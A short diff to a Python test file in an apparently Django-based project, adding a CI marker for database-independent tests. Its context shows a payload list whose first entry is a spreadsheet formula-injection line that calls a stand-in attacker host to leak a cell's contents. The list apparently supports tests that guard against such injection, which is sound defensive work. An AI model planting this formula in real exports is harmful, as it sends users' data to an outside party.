@@ -43,7 +43,8 @@ from lazos.core.views import ObjectListView
 if TYPE_CHECKING:
     from lazos.governments.models import Government
 
-pytestmark = pytest.mark.django_db
+# What this checks does not depend on the database engine: CI runs it once, in the SQLite pass.
+pytestmark = [pytest.mark.django_db, pytest.mark.engine_independent]
 
 PAYLOADS = (
     '=HYPERLINK("https://attacker.example/?leak="&A1,"Click here")',
